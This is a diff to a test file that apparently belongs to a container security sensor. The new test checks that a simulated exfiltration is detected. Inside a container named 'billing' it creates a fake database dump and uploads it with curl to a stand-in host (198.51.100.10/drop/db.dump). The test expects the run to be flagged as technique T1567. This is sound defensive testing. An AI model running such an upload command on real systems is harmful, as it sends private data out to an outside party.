@@ -164,6 +164,75 @@ describe.skipIf(whyNot !== null)('a container that uploads', () => {
   });
 });
 
+describe.skipIf(whyNot !== null)('where audit stands in for bpftrace', () => {
+  let own: SenseLab;
+  let folder: string;
+  let audit: string[];
+  const settings = () =>
+    own.inNetns('auditctl', '-s').match(/^(enabled|backlog_limit|backlog_wait_time) \d+/gm)!;
+
+  beforeAll(async () => {
+    folder = await mkdtemp(join(tmpdir(), 'swsense-logs-'));
+    own = await SenseLab.open();
+    audit = settings();
+  }, 60_000);
+
+  afterAll(async () => {
+    await own.close();
+    await rm(folder, { recursive: true, force: true });
+  }, 60_000);
+
+  test('the upload is found, its command is told, and nothing of ours stays in the kernel', async () => {
+    const { lab } = own;
+    const sensors = await startSensors({
+      folder,
+      engine: lab.engine,
+      netns: lab.hostNamespace,
+      accounting: true,
+      activity: 'audit',
+    });
+    const running = sensors.status().find(({ name }) => name === 'activity');
+    let container: string;
+    try {
+      container = await own.run('billing');
+      await lab.engine.exec(container, ['sh', '-c', `head -c ${UPLOAD_BYTES} /dev/urandom > /tmp/db.dump`]);
+      await lab.engine.exec(container, UPLOAD);
+      await lab.engine.exec(container, ['sh', '-c', '/bin/missing']);
+      await sleep(2000);
+    } finally {
+      await sensors.stop();
+    }
+    expect(running).toMatchObject({
+      state: 'degraded',
+      reason: expect.stringMatching(/^files are not seen: .*it was asked for$/),
+    });
+    expect(own.inNetns('auditctl', '-l')).not.toContain('stowaway');
+    expect(settings()).toEqual(audit);
+    // Of short-lived processes, the host's too, audit may not tell whose they were; no record may be lost.
+    const { losses } = sensors.status().find(({ name }) => name === 'activity')!;
+    expect(Object.keys(losses).filter((kind) => !kind.startsWith('acts of processes'))).toEqual([]);
+
+    let rows: Row[] = [];
+    const result = await hunt([folder], {
+      async inspect(store) {
+        rows = await store.rows(
+          `SELECT activity, process_name AS what, cmd_line AS text, container_uid AS container, cmd_line_complete AS complete FROM process_activity`,
+        );
+      },
+    });
+    expect(result.deadLetters.total).toBe(0);
+    const open = result.report.findings.filter((finding) => finding.status === 'open');
+    expect(open.map((finding) => `${finding.technique} ${finding.entity.name}`)).toEqual(['T1567 billing']);
+    const inside = rows.filter((row) => row.container === container);
+    expect(inside).toContainEqual(expect.objectContaining({ activity: 'launch_failed', what: 'sh' }));
+    expect(inside).toContainEqual(expect.objectContaining({ activity: 'connect', what: 'curl' }));
+    const [curl] = inside.filter((row) => row.activity === 'launch' && row.what === 'curl');
+    expect(curl).toMatchObject({ complete: 1 });
+    expect(curl!.text).toContain('n'.repeat(700));
+    expect(curl!.text).toContain(' -T /tmp/db.dump http://198.51.100.10/drop/db.dump');
+  }, 120_000);
+});
+
 describe.skipIf(whyNot !== null)('when something breaks', () => {
   let own: SenseLab;
   let lab: SenseLab['lab'];
@@ -185,7 +254,7 @@ describe.skipIf(whyNot !== null)('when something breaks', () => {
       folder: join(folder, 'restart'),
       engine: lab.engine,
       netns: lab.hostNamespace,
-      activity: false,
+      activity: false as const,
     };
     const sensors = await startSensors(options);
     try {
